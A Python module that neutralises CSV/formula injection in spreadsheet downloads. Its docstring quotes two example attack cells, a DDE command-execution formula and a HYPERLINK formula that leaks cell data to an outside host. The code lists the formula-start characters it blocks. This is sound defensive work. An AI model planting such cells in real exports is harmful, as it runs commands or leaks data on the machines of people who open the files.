"""CSV downloads that a spreadsheet opens as data, not as formulas (CSV/formula injection).

Item text and model responses are untrusted: a cell such as `=cmd|' /C calc'!A0` or
`=HYPERLINK("http://host/?"&A1)` runs or leaks when a downloaded CSV is opened in Excel,
LibreOffice or Google Sheets. OWASP's advice: prefix any text cell that starts with = + - @ or
a tab / carriage return with an apostrophe, which the spreadsheet shows as text and hides.
Numbers stay numbers (a negative number is not a formula).
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text == text.strip()


def neutralise_cell(value: Any) -> Any:
    """The cell with a leading apostrophe when it is text a spreadsheet would evaluate
    (a plain signed number such as "-5" is left alone: it is data, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if value[0] in "+-" and _plain_number(value):
            return value
        return "'" + value
    return value


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of `df` whose text cells (and column names) cannot start a formula."""
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(neutralise_cell)
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def neutralise_csv_bytes(data: bytes) -> bytes:
    """The same for a CSV that is already bytes (e.g. an export built in core)."""
    import io

    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
    return neutralise_formulas(frame).to_csv(index=False).encode()
